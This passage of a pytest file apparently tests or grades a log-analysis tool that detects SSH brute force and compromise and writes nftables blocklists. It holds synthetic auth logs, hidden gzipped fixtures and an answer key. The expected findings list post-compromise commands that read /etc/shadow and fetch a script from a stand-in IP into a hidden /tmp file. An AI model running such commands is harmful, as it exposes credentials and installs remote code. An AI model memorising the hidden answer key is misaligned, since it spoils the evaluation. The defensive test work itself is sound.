import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'nft'
BLOCKFILE = 'blocklist.nft'
VISIBLE = {'filter': [['2025-07-04T04:12:03.662655+00:00 mail-relay sshd[8045]: Accepted publickey for pavel from 10.27.42.31 '
             'port 55635 ssh2: ED25519 SHA256:15f2fee390c42742e9bcda65fe5aa1009b1535b1c75',
             None],
            ['2025-07-04T06:05:29.419789+00:00 mail-relay sshd[8274]: Accepted password for nikos from 10.56.109.65 '
             'port 58324 ssh2',
             None],
            ['2025-07-04T08:47:03.000000+00:00 mail-relay CRON[10235]: pam_unix(cron:session): session closed for user '
             'root',
             None],
            ['2025-07-04T11:53:02.098183+00:00 mail-relay sshd[8459]: Accepted password for pavel from 10.18.176.24 '
             'port 64432 ssh2',
             None],
            ['2025-07-04T11:53:02.098183+00:00 mail-relay sshd[8459]: pam_unix(sshd:session): session opened for user '
             'pavel(uid=1001) by (uid=0)',
             None],
            ['2025-07-04T14:09:01.707929+00:00 mail-relay sshd[8535]: Failed password for invalid user ftpuser from '
             '134.210.118.115 port 64663 ssh2',
             '134.210.118.115'],
            ['2025-07-04T14:09:01.707929+00:00 mail-relay sshd[8535]: pam_unix(sshd:auth): check pass; user unknown',
             None],
            ['2025-07-04T14:22:57.130762+00:00 mail-relay sshd[8590]: Failed password for root from 134.210.118.115 '
             'port 58997 ssh2',
             '134.210.118.115'],
            ['2025-07-04T14:22:57.130762+00:00 mail-relay sshd[8590]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=134.210.118.115  user=root',
             None],
            ['2025-07-04T14:28:49.628883+00:00 mail-relay sshd[8647]: Failed password for invalid user hadoop from '
             '134.210.118.115 port 56595 ssh2',
             '134.210.118.115'],
            ['2025-07-04T14:28:49.628883+00:00 mail-relay sshd[8647]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=134.210.118.115',
             None],
            ['2025-07-04T14:36:59.026765+00:00 mail-relay sshd[8712]: Failed password for invalid user ftpuser from '
             '134.210.118.115 port 49098 ssh2',
             '134.210.118.115'],
            ['2025-07-04T14:36:59.026765+00:00 mail-relay sshd[8712]: Invalid user ftpuser from 134.210.118.115 port '
             '49098',
             None],
            ['2025-07-05T06:15:57.000000+00:00 mail-relay CRON[10074]: pam_unix(cron:session): session opened for user '
             'root(uid=0) by (uid=0)',
             None],
            ['2025-07-05T07:57:09.000000+00:00 mail-relay CRON[10347]: pam_unix(cron:session): session opened for user '
             'root(uid=0) by (uid=0)',
             None],
            ['2025-07-05T11:50:29.000000+00:00 mail-relay CRON[10334]: pam_unix(cron:session): session opened for user '
             'root(uid=0) by (uid=0)',
             None],
            ['2025-07-05T13:59:19.791983+00:00 mail-relay sshd[9291]: Failed password for invalid user support from '
             '146.254.45.143 port 49885 ssh2',
             '146.254.45.143'],
            ['2025-07-05T13:59:19.791983+00:00 mail-relay sshd[9291]: Invalid user support from 146.254.45.143 port '
             '49885',
             None],
            ['2025-07-05T13:59:19.791983+00:00 mail-relay sshd[9291]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=146.254.45.143',
             None],
            ['2025-07-05T13:59:29.266950+00:00 mail-relay sshd[9295]: Failed password for invalid user admin from '
             '146.254.45.143 port 44920 ssh2',
             '146.254.45.143'],
            ['2025-07-05T13:59:29.266950+00:00 mail-relay sshd[9295]: Invalid user admin from 146.254.45.143 port '
             '44920',
             None],
            ['2025-07-05T13:59:29.266950+00:00 mail-relay sshd[9295]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=146.254.45.143',
             None],
            ['2025-07-05T13:59:29.266950+00:00 mail-relay sshd[9295]: pam_unix(sshd:auth): check pass; user unknown',
             None],
            ['2025-07-05T14:03:47.841521+00:00 mail-relay sshd[9331]: Failed password for pavel from 146.254.45.143 '
             'port 52921 ssh2',
             '146.254.45.143'],
            ['2025-07-05T14:03:47.841521+00:00 mail-relay sshd[9331]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=146.254.45.143  user=pavel',
             None],
            ['2025-07-05T14:11:24.207625+00:00 mail-relay sshd[9420]: Failed password for pavel from 146.254.45.143 '
             'port 58285 ssh2',
             '146.254.45.143'],
            ['2025-07-05T14:11:24.207625+00:00 mail-relay sshd[9420]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=146.254.45.143  user=pavel',
             None],
            ['2025-07-05T14:20:57.436126+00:00 mail-relay sshd[9524]: Failed password for invalid user support from '
             '146.254.45.143 port 58131 ssh2',
             '146.254.45.143'],
            ['2025-07-05T14:20:57.436126+00:00 mail-relay sshd[9524]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=146.254.45.143',
             None],
            ['2025-07-05T14:23:35.193015+00:00 mail-relay sshd[9575]: Failed password for invalid user pi from '
             '146.254.45.143 port 40063 ssh2',
             '146.254.45.143'],
            ['2025-07-05T14:23:35.193015+00:00 mail-relay sshd[9575]: Invalid user pi from 146.254.45.143 port 40063',
             None],
            ['2025-07-05T14:23:35.193015+00:00 mail-relay sshd[9575]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=146.254.45.143',
             None],
            ['2025-07-05T14:23:35.193015+00:00 mail-relay sshd[9575]: pam_unix(sshd:auth): check pass; user unknown',
             None],
            ['2025-07-05T19:03:02.721376+00:00 mail-relay sshd[8026]: Failed password for root from 103.114.162.11 '
             'port 59751 ssh2',
             '103.114.162.11'],
            ['2025-07-05T19:03:26.559512+00:00 mail-relay sshd[8026]: Failed password for root from 103.114.162.11 '
             'port 59751 ssh2',
             '103.114.162.11'],
            ['2025-07-05T19:03:38.139229+00:00 mail-relay sshd[8026]: Failed password for root from 103.114.162.11 '
             'port 59751 ssh2',
             '103.114.162.11'],
            ['2025-07-05T19:03:38.139229+00:00 mail-relay sshd[8026]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=103.114.162.11  user=root',
             None],
            ['2025-07-06T15:09:25.950867+00:00 mail-relay sshd[9901]: Failed password for invalid user guest from '
             '201.193.8.76 port 34228 ssh2',
             '201.193.8.76'],
            ['2025-07-06T15:09:25.950867+00:00 mail-relay sshd[9901]: Invalid user guest from 201.193.8.76 port 34228',
             None],
            ['2025-07-06T15:09:25.950867+00:00 mail-relay sshd[9901]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=201.193.8.76',
             None],
            ['2025-07-06T15:24:11.484808+00:00 mail-relay sshd[9976]: Failed password for root from 201.193.8.76 port '
             '64816 ssh2',
             '201.193.8.76'],
            ['2025-07-06T15:24:11.484808+00:00 mail-relay sshd[9976]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=201.193.8.76  user=root',
             None],
            ['2025-07-06T15:32:29.378325+00:00 mail-relay sshd[10020]: Failed password for invalid user user from '
             '201.193.8.76 port 37989 ssh2',
             '201.193.8.76'],
            ['2025-07-06T15:32:29.378325+00:00 mail-relay sshd[10020]: Invalid user user from 201.193.8.76 port 37989',
             None],
            ['2025-07-06T15:32:29.378325+00:00 mail-relay sshd[10020]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=201.193.8.76',
             None],
            ['2025-07-06T18:57:40.272729+00:00 mail-relay sshd[10059]: Failed password for pavel from 201.193.8.76 '
             'port 45943 ssh2',
             '201.193.8.76'],
            ['2025-07-06T18:57:40.272729+00:00 mail-relay sshd[10059]: pam_unix(sshd:auth): authentication failure; '
             'logname= uid=0 euid=0 tty=ssh ruser= rhost=201.193.8.76  user=pavel',
             None]],
 'findings': {'brute_force': [{'failures': 10, 'first_seen': '2025-07-04T14:09:01Z', 'ip': '134.210.118.115'},
                              {'failures': 20, 'first_seen': '2025-07-05T13:58:18Z', 'ip': '146.254.45.143'},
                              {'failures': 11, 'first_seen': '2025-07-05T19:03:02Z', 'ip': '103.114.162.11'}],
              'compromised': [{'ip': '193.81.22.248', 'time': '2025-07-05T10:36:26Z', 'user': 'nikos'}],
              'sudo_after_compromise': [{'command': '/usr/bin/crontab -l',
                                         'time': '2025-07-05T10:37:19Z',
                                         'user': 'nikos'},
                                        {'command': '/usr/bin/cat /etc/shadow',
                                         'time': '2025-07-05T10:38:26Z',
                                         'user': 'nikos'},
                                        {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                         'time': '2025-07-05T10:41:16Z',
                                         'user': 'nikos'}]}}
HIDDEN = [{'files': {'allowlist.txt': 'H4sIAAAAAAACAx3MQQqDMBBG4b2n+MF9mqi0pbcZwxSCMimTGaW3b+zywccbUV1RT0GRt1Iz9Wyu/ILwwQoyo7yxtiHF8HyEdA/xNkUAIw7fhZXWshf7omWSnpdb5jDN6YLLH6594Z9+tLPqNvwAETvN23QAAAA=',
            'audit.log': 'H4sIAAAAAAACA+WaXW/bNhSG7/crBN90Awqa34csYBRZ2mwF1m1o0+tCtdXERSwZltyPf79DSqLiWLJUTPG8+soUoVh6H55Dvuc4xbd1Mnv39uWb9xfvrn+PVvnNLN4ulsXPDBTTVFCjiODmmVbK/PIsWi8XM6asjrY4oFHsPiS30mrgVkV5ku9cbj98mm3TeZZ+XKbJwn/7k2w9+/vi9bN4W9wmabGcx8UyS6ObTZwW2SafPY/i+byYTW6+JOkkSr4ms8l0m2+m+YdlOs3z28Ukus3yIo1XyYxRwg1hFgjTKooXi82DqSLZrJZpfDfDP4w2+HIf4+Vdsnjy7tWL2WSTZcUkuvDjbZonxeSnopeGJVQqR8PWNDSDM6XBmCTax4amgYZ4xNhYx6v323T59VGh5Nv5PMnzIVQuL6/bqCiCKeKosHGpzOfZFqmkNydL5I+/fnv1ZzsSrphDwjuQMEq5h6EodFK4y26WaVTffVjm84PSpovk83Rd5FNxWGEJNIz6Fl9yTok03CkVQak+zuKv48/J3YDVVy4+iWYBUJgYfeU9D6Wl4yE7eOBaSk/CMDVo5eXgld8XFtadHtZXsWyG96Revn7RIhQEEeBDXAWhIKKgcFcr69I6/7JAabfZKplW7zBfLWb8ChQI4PxKc231S/yU+gpT6FetcJYCxUc1VDyU7SKbNMKdZr6vuXrGfdG9MW44bvvgY1wHqUYeJcbv4k0+IMSlJloSHgKhvh4/wB0M0H7doQMGLjrzGDjODwlwNjjA93SF+FaH5ZUcw6gnupVg+CBOncrgArUN0c0eCEVj0Bvd5RvsBjeIOrwBYwsAA1uARIMl3R39AS73RZePuSe6L7xBgyL4WKe18XjWnFJ4C0usJVxACIRmZvQQ90AMdSEOtANIs/IWRg7xFmVDN/HuIG/zs0wIyYjxezgE5wbanIa7B3QwjONCEC5pSWd36l+4+5Y8YJZRjV/tch6CabOj1Dr9efDhU7YZYmQVEqCMMNMc+WFm7ESoiGhPRHQQwdAuWTi3OSQR1HAzs68sJAI/LLDC2Qz7UsFyrolgzrdB8G1W8qOVdkO9rKCEcYQiaLNhNFMj13YlFkOFw6LGxTKevX80JB1Z4ZmA64mA7mASbC8wObLFb5P2SCafWUMl5qDPCmik6ihk/u4eAKbXBVWZ2e7xnfXB0SWn/AVeU6EExfEVaLRE7r5LrAHA2SawaJ38Vb9JYvtQqre4v1n0pAIHjSV1WfBAbQk5VewoqZCsloMywRX9nKB9bMKlmRo7E0okWAg6JLYDCcaGKItdRQdlghieCS3ShmZCCTSMeo4HjENpiZRuHzS1JeRMnVznT7oOAG+aXPX1yOdCyUP5vrBh4/IYref3CCxa06CEgTWjg8E7YIRuH+4gI3f79nQNLYm/r9UnjMJjp2z1mdoNcs7oKdWJDLcEwQhnNuC5NzX6ynskSrozwcgOJE0zRImRK8U2aUMd8oFSsXXxtdHEMq9UNUrhlE4/DpgGnKjGBjYz4y+9BwLOGhndASScfdrwkc++FmVDO/zfd/RJqnB3s/5HLwNBKLdHO/riu+U8GVIacyI4kU2LKEyMfPohEoXbLnO/eBkzLpL+ZPhPcbTmQsXD+hCxHTwwunXVJxjmA/XwPsGesKGpULFshofrIcmEwJPedwlssIG8an77d36gFUulvoKoeodx+8Ituqvn3Bd+OPWBMep+49HayQ0uDx4z9ev+YLlIhwOAC+LcvysAqh1/Z2bU3/6RhZaagHImzwaTB4KeJwvFCFWu7rPBCYIWp9E3Pi4LrHeBWOl6pDZYQLBnGRe45RvCjN8eVcPiCPvFkPLgyCwEt5gj7ky0wR8aep45IinUe2ewkIbZs2ShmSEYEo5F8I5Gy7PMEY2+kVm/XwTfaFDmjx0Xb68v3lzvwQCtLTECk0TT2lsKBTvNVFo2Erg4KB7vyVH1+2ydPKiqvL/GL3rqLpL0s/9cOyHF0wdlRuvpMt9k6b4Ff96wcDccttx+3AeDM8oEocY4GLXzFBrsPgxl1A8OA2tM4GV/UdPaegr3v2NnCEMbYygxijsYtfcUWCDtw5AHOq3/Oxgt+6eh1GL1a8CzqL2nwF31NPZPwYjrUSpJbPXfCjszo54lhmLNjSy4Z6ECC83OkgWabgIAjkXtPQXn9DQ8xsgs/gHb0TNx0DEAAA==',
            'auth.log': 'H4sIAAAAAAACA82c224jNxKG7/cp+jJBYJqs4rEHvhgkWexeJFkkDhaLQbBoSS1bGVsSdJjZefsUKR9GEil1k+qdMYSxYXv0/ay/yCqyuw0c1BU3V1zecqy5qpVmPHx8x3nNefVhOb+6+3iF1fe//vLzO9TK/FFXy+bxv9v57H/fjFeLeb1u1+vZYv5tXT19VS2W7bydVNPFqtqu21W1Wiw232xnkxv+bTX6VD19+Tc4gtsLwMcPi/Uh/AAFulb8JMqgHWqcYGq8BPzsOHUtsJaSKaEB1SFqvb6fvBOGO0K9HY/b5YbebNms1x8Xq927PjSrdTVdLR4rwZlwDMAwAVAtF6tNpQEwvAlkMl+G57/ZIbZeTQio4Fwkw6tr4D68Wjrk5oi/nSyILzjx6SMMsK5ub/9zs9ysr2X1pvrXv3+4ub5fPLbX4Ydvqt9/+/HXGx9a+vr7X3766e3P9Avb9ep6NJtf/7nYrubNw3jzUF1t/egytbzGgr7ZP8/2Q7OnwdTc1iiYtk5pkfAD8MiPZru5JwH+UzvfzMbNxuuYNrOH7ap9Uz0s7ubNY3tTBRFVu/u02Xy6of9drbzIm2p1v1hvbgwljQBmOQPJq6D/5u5jO8+U+XeScJio/u12iboPC4mqpAZ9nKimFsonqtRKG5sgGknEf84/NA+zyS7yy1kSpME5k8mIBn98347fh5G+2cG38/fzxcf5JRmXNjhTW8zVWZ+4Rw2mrDLMaQMWEnAHhwaHf5K5hOBUJqXI4hLG0BZ31HbW4vORj5psa6mYdVpIGcdbrpMljujj9qXGATDBLaMCtYNKaajcFUD71rgg53kl18kiRwIc1VnGDa2JNiXAHaZ2M3mcpddJqZySmZii3C5hDJ3bHbWdze0OoY/lGVJXDMxIE2kVn/jqaAW727brzSmWsZmYEpuLGAPb3FXbWZs7hP7YZuuX0ND7cOp+Enyz36ZvR7RSvG8/BQnL5kP78LqIIREts7iDogG+a3/q6scfQCnhqt/+8RaUrs24abRuQFnO0UkJejSiVZZ+B6aTRspmIls3aumDZwruu/6FkTyvfzK5/tkaBG2jmAIEDfHG2lqza/J30Ul1+bufFrX53dUUtvkH0dkT4WpFaxXlm/GlJ+6J00O2gX6PKMKLUm/X5odylikzNtf2q/UrbTe7tObueHYFogSmOUqeWMSpf+zYIRwwEcjZEuYwDYKAmssaHeO081QmKgAEV8lBt4+z1wWF3gfZS0tkqGE/GnEPYN8ReynPA8YTA0bh8wqpVFuR4If9Y4ejDolMGqb1k8dolIiNuCtxkIMOQSXL+L3V6XMkPcghlofb0BkVw88dYglZKxkOJRGVdvE4g8J0ddyfwKipyxfMyidznREqXh2nreI0CNNaM+XAm5a7kRo3k5GdTjlaC40RU+smIy4yBQ80+YlOu26atLRngng9Atqr7arjLjqp6rj7aUl17KGmsDoeRGdPBHXysvbTGrU18R0bYNix7Z8FjLbzzfYldyy1dJpe5qWzQpWJye6kSxmXKfQvkciUdv4s4Hzkj5fkwFfAOFAjrxL8cLS+5/LmpWc/JinqhUUmpNDjfMbgHneSdtbjs3GPOqxqcMw5i5CiD7qN3JOa6HJ7yDzf5R6mPoAx0cBo2ob4k1alE/0XajxM/elm+XrqdgyThprqTE5R9pcwBs7+jtLOZn+X0Ed9dk99tpA6IcAcnfytt8vwrgmYBmVVJqfI5xLGwD53lHbW5y6hj/kM6BtsYaXgiUSTQvZsWGhhlpmYEpuLGMPa3FVaacPiIx91WVE9ZaAl14k6IQH7NCxI+SoyIUUelzAG9rijtKKGJcQ94TD62yGcTi0kUn4FDUtXmb0bFunQulhgkKaepalnuOUJonI9GxZFy3UupyT7ixjDZn9XaaUNSwh91GflOybQKFziNIQ6nZ4Ni9R4tMp15RT5XMIY2OeO0koblhD6qM+amIxmOzVNCQHO9WtYFII1mZgim0sYA9vcUVphwxIiH3NZ8hqBSaWpUMT5tHHv17AIbTMhJR4XMYb1uKu0woaF4h51WPjTa6F07GLmjq7Ml29Yusrsf8LiOPKDwKhbwf2ZDjen70/mOMD1lmc4Le/l8NPXWwJKUnANs9JyEb92CfZ4ir+2BoBMAxPw2W1URgqdCcmc4uWMC2Ty55HIlNbjprlE3I8zmSoI0hrDBDqb6hUc8uS10vWH8dV63Mz3JpBl9omKVgssofa9LPasJ0wc5xKzSN8SEmStBKMtvcb4dl+oYQ+c/M0DaJiml31a3PZnYC+ZsewIV+l2zuzBns4h+NFm7IXomEVLdf8U8ZE8aO7aatUu28Znhqw2M/pmXb0rUfPHoZywZRf+xjv+NfvUUeYFfaIygAyNBWO+Bp/84x6M+hTBITWlzWGpWKya8UObWD2kk0JlUjJrRTnjcl2PD0SmsrOl4nzcYxmH9FKMyhG1RQn88S2osbOCzyqEtlxlYko8LmIM6nFXZVmHNAeBj5ocnoezwNGlckzJ/09k4i1/L5XdWv7XsCgLNhoWiX6PobWhBT4BtHB2s/sK0oI2dZmMksQvYgya+F2V9d/qHkQ9aq+swTLllEjss5E2W72ql9KocilFBpcwhjW4o7Ky6hXiHrVY+8u4CiUXIoXHftVLAec2E1PkcQljWI87KiusXiHwUZOdb8Mlp/ppEnyBX7x6dVXZt3pJIwBjYVFA2zrm/NxLAVH0qF4oFLhMRkniFzEGTfyuykqqV4h6wl7pn/bRKnGLGXIteu69hHCZlEKD8xlDG9xJWenei+KeshhDfoFO4I3oufcCZTETU+pxNmNwj7soK917+cBHTQ4dEipnXCrHzJevXl1V9t57OY3HuS+Ef7oGHDMKUs8TIUiV+usMKJh/WEvR4vx8huXvPM9EZOd9KeMC7n4eiUxpnf82QyLqx+46fxstnr6cZcQQzy49w8/8oaFu8NPX0swtFzX3D8advmwHMMA4n+GoLwCPjvMvFRrCNjlKAAA=',
            'journal.json': 'H4sIAAAAAAACA91cW08bRxh9769Y8ZRIZZlvvrl848gPKCGppRAioKryhNZ7CW7Aa3nt0Kjqf+/s2qgYTD1ehngHhMBgs+acOee7zGX/3ru4OD06/Hg+OD66qL+cnR8ef97rRXugJSjgJIxWgKj3fo32Ln47OTv/dHh8VL/g+2S8//VmH/eH9VNnX84+nny4GLw7+nQ+eD84Oq1fUlWX2X6VV9WoHDd//3nwbnFtMPXPn08HJ6eD8y/179Sdq7w/fDv4uPw9sPoJ+4+dHX5o3vcwTfPJLM+iyXx4NUq/5T+iopxGiX2cR8W0vI56vcJ+9IDFAmKEGKSMJuV0FklljIrsf8V70dE7LiWY6Oy3Qy5Vr8glQ406J10wzpKcmaFMk2xIRcGQiCcaCjLZkMHeP7/8HR5tk+T6Yj4e/fWqvnpvefXXvWj5KCon+diSWlM5r/Iln6/mo6wPjKnX0fBH1PzEXjvgR45Co0BDfvEjtMY/GH+3kLIFuHHydVRWK2rROgbgMbGYC7aUixUEhYl2dbST+ezSDnV6maffoklSVW8WNMzH38blzfgFQay/5ePZKE1mtaiLZHQ1n+Zvoqvy6zi5zvtRI+EoX3ybzX707V9H05qNfjS9LKtZf50ewmTovUVfx0k74DfldOHtUUsbNFHThQbBOQMltefIR9KP8y+TrCwnmyCj5AhhovXu/EAg7tD53WNoo/O3sIGz8zUQY0Ki8EoDce7H+dV80oDagFkgMR0mXO/WDwTiDq3fPYY2Wn8bH7h7n2vb9DDyW/yQ9FTvT0Yb4WrCQJH6t30YEHdp+84xtNH2jhZwdDxXJAQZxVjroucudM4QfU8Ifb3Jx/fng3SsKQall+UNvy1vHkwHKSgAEs0gl5SYYZoMNTcpySSRXBBPU5ELlVoWDIRF1rbTQDWLt7NAfLtZIGRCc66MMMYPbOVj0vCuQdbOGaKKQejYKqMRiQKb3x1d0SXEP3O+z3ZAmrPmow3ut6cnn+7iRi/TQum0HDvgnpblbAl0W8wEgWBOr8rqPmYXhESK2eilmM80xwGZ71ifX4+u7vsYTAwabZa7ncXi4pG5f54XQhqWZTyThUyKZGiKIuWYE0tsyFcZTyVgmqbAwmRt21hQ03kbCnBLW0gkjVpIwVvBn2flKmzTPtdF0UIYvej8/Et/MqsOWPQm+vzHu/7BZXmdHzRPvol+Pzs67deWsI/fnhwfH36yL5hX04PhaHyQlVZktnqqwoL+34jbq24fBVcFsBm6ZGCMtiWO1F6giydUwnbUJ8n3/O6ww8qwL579n3Gv6oGfFzdRNUtm8yos+E8c+Yac26EXDkNvlAGG2ijttRnikjo7SwQa6iqRy0Xz1PDYb4gLk651vePCJCspdRX1ojhmKF1bRqOB2d5Jo0IvxbF976AE4lZ0dYmldbpo4uVmWXAGzrIQTDClNCivhlBILzJ+dJCu9vEDha2a3IVi0NbhZKQfZyj1IuNHd1hqHT9sUgF0loUy/GmA1xvCCM+zTY4pVRhiAWPftte8V3Bu1WwarQ08Af/9utte0GfbIbZrO+quI728LrNIaCmjg9n15CD+KywWfnr3QYykR+ya4Q4bz0YB03I8S4bR/lVY6H/yyGuwgU/zeputn7l2esL82spac/PlbpTnGCseg/3UtyttxggdFkS/i8zdh+avmLs7/GERs3FN2VXqbuWMNpr5XVIh1vVlJIsZlitn3cfcahmJGCMlSGpBXjtWZKazDX595oTFIEVsaNm91evoYXK1Lgo82Fuxgni53mZc944SAzDIGNftYa/ABRLPlMsf4hS2XDFhQfSby7sP7XmMHRYx2+fyR6TubGnJlGBmuYv9ydi59rQVtJwm6VW+ASlK5rAJvFMgvZu649B2Z+ruELPR1O5id7Y1CYYaBGo/6CmkIu4qmVZhcbROITWKjZKQqJwlYaher1SceYGLwF5eXd8hjlrW88K+p+MpUALOmQBOT4C7to1BNM93FmwNZLAYwkTruRoIBuKuqoIuEtTqJNgjLnA2vtBacqXR+KVBmmc7/r0m+6FBChOsd98HAnF3vu8eQW0Ofz9iAmfbS6nQKKG5XxYI/dh+llcbw5w2Dme5OgnVu+kDgbg703ePoI2md7WAs+WVJmlIM08djVHPdmunNUhJcxYWSO8m7zi03Zm7O8S0uYHTI2J3tXV9JhoBQIDX0CaAflomxyYwBwnVt8lDgbgzs3eQIB+ZvLGAq+UFr1cAvO1AUT56u+fddVNjlhAI5na7bkApZKjrA1pe0pgQ2veh7eGf5fTBHTpqLUMslnfokEYvl6YeHNo2Ok2JpAaViIJERlkqEqSCKGeUJ0XCSGA6TFg2DIutbTfQNzTe7pyVW/qAuGSSUErP8U93dn7nrsYWSzgNgWFytS5XONhKoSJ0TQ/EtbD5jJjXA6s25aiXKJHOcdVWItwo7S4RU988Gw36hc3xJUqkc1y1lIjUBO4SQVFPkhvfsPElJprucdVSIraoMsZdItIwzoynjVVS0UuURmc4aikJobjrLSNICGF8tmlSU+dbUyEkiEAwP9Ka/gsrmMznVWQAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA1NQQAE++cmJOQolmbmpVgoayfk5OanJJakpCkYGRqa6BuZApMmlgAZCgIoVqvLzgDpcS5L1Q0OcuYIri0tScxWSc/KTsxWKK/OSM4ry8zKrUlOsFCpTi9FM8AsJUChOLSrLTAaakJhcklmWygUAj30IlZYAAAA='},
  'host': 'vpn-gw-3',
  'truth': {'filter': [['2025-07-04T03:05:58.000000+00:00 vpn-gw-3 CRON[3657]: pam_unix(cron:session): session closed '
                        'for user root',
                        None],
                       ['2025-07-04T06:13:44.516235+00:00 vpn-gw-3 sshd[1709]: Accepted password for lars from '
                        '10.19.227.122 port 62233 ssh2',
                        None],
                       ['2025-07-04T07:08:31.689561+00:00 vpn-gw-3 sshd[1723]: Failed password for gwen from '
                        '77.112.80.240 port 54626 ssh2',
                        '77.112.80.240'],
                       ['2025-07-04T07:15:44.465678+00:00 vpn-gw-3 sshd[1774]: Failed password for invalid user pi '
                        'from 77.112.80.240 port 62997 ssh2',
                        '77.112.80.240'],
                       ['2025-07-04T07:17:07.967282+00:00 vpn-gw-3 sshd[1792]: Failed password for invalid user user '
                        'from 77.112.80.240 port 53295 ssh2',
                        '77.112.80.240'],
                       ['2025-07-04T07:17:07.967282+00:00 vpn-gw-3 sshd[1792]: pam_unix(sshd:auth): check pass; user '
                        'unknown',
                        None],
                       ['2025-07-04T07:18:45.896144+00:00 vpn-gw-3 sshd[1806]: pam_unix(sshd:session): session opened '
                        'for user alice(uid=1006) by (uid=0)',
                        None],
                       ['2025-07-04T07:19:13.077238+00:00 vpn-gw-3 sshd[1809]: Failed password for invalid user admin '
                        'from 77.112.80.240 port 45954 ssh2',
                        '77.112.80.240'],
                       ['2025-07-04T07:19:13.077238+00:00 vpn-gw-3 sshd[1809]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=77.112.80.240',
                        None],
                       ['2025-07-04T07:33:02.747000+00:00 vpn-gw-3 sshd[1852]: Failed password for invalid user guest '
                        'from 77.112.80.240 port 45978 ssh2',
                        '77.112.80.240'],
                       ['2025-07-04T07:33:02.747000+00:00 vpn-gw-3 sshd[1852]: Invalid user guest from 77.112.80.240 '
                        'port 45978',
                        None],
                       ['2025-07-04T07:33:02.747000+00:00 vpn-gw-3 sshd[1852]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=77.112.80.240',
                        None],
                       ['2025-07-04T08:21:27.523262+00:00 vpn-gw-3 sudo[1887]:    pavel : TTY=pts/4 ; PWD=/home/pavel '
                        '; USER=root ; COMMAND=/usr/bin/journalctl -u ssh',
                        None],
                       ['2025-07-04T09:59:12.871806+00:00 vpn-gw-3 sshd[1964]: Failed password for alice from '
                        '10.11.11.183 port 46609 ssh2',
                        '10.11.11.183'],
                       ['2025-07-04T17:14:43.436874+00:00 vpn-gw-3 sshd[2306]: Failed password for invalid user ubuntu '
                        'from 10.87.16.167 port 37235 ssh2',
                        '10.87.16.167'],
                       ['2025-07-04T17:14:52.027005+00:00 vpn-gw-3 sshd[2338]: Invalid user test from 10.87.16.167 '
                        'port 55521',
                        None],
                       ['2025-07-04T17:14:52.027005+00:00 vpn-gw-3 sshd[2338]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.167',
                        None],
                       ['2025-07-04T17:16:21.465567+00:00 vpn-gw-3 sshd[2363]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.167',
                        None],
                       ['2025-07-04T17:16:21.465567+00:00 vpn-gw-3 sshd[2363]: pam_unix(sshd:auth): check pass; user '
                        'unknown',
                        None],
                       ['2025-07-04T17:19:39.049146+00:00 vpn-gw-3 sshd[2379]: Invalid user support from 10.87.16.167 '
                        'port 62585',
                        None],
                       ['2025-07-04T17:19:39.049146+00:00 vpn-gw-3 sshd[2379]: pam_unix(sshd:auth): check pass; user '
                        'unknown',
                        None],
                       ['2025-07-04T17:25:14.264065+00:00 vpn-gw-3 sshd[2423]: Failed password for invalid user test '
                        'from 10.87.16.167 port 31461 ssh2',
                        '10.87.16.167'],
                       ['2025-07-04T17:25:34.519646+00:00 vpn-gw-3 sshd[2442]: Failed password for alice from '
                        '10.87.16.167 port 49389 ssh2',
                        '10.87.16.167'],
                       ['2025-07-04T17:25:34.519646+00:00 vpn-gw-3 sshd[2442]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.167  user=alice',
                        None],
                       ['2025-07-04T17:33:18.187080+00:00 vpn-gw-3 sshd[2459]: Failed password for invalid user '
                        'ftpuser from 10.87.16.167 port 59142 ssh2',
                        '10.87.16.167'],
                       ['2025-07-04T17:33:18.187080+00:00 vpn-gw-3 sshd[2459]: Invalid user ftpuser from 10.87.16.167 '
                        'port 59142',
                        None],
                       ['2025-07-04T17:35:21.263199+00:00 vpn-gw-3 sshd[2466]: Failed password for invalid user '
                        'support from 10.87.16.167 port 46361 ssh2',
                        '10.87.16.167'],
                       ['2025-07-04T17:35:21.263199+00:00 vpn-gw-3 sshd[2466]: Invalid user support from 10.87.16.167 '
                        'port 46361',
                        None],
                       ['2025-07-04T17:35:21.263199+00:00 vpn-gw-3 sshd[2466]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.167',
                        None],
                       ['2025-07-04T17:36:00.938049+00:00 vpn-gw-3 sshd[2499]: Failed password for invalid user ubuntu '
                        'from 10.87.16.167 port 53287 ssh2',
                        '10.87.16.167'],
                       ['2025-07-04T17:36:00.938049+00:00 vpn-gw-3 sshd[2499]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.167',
                        None],
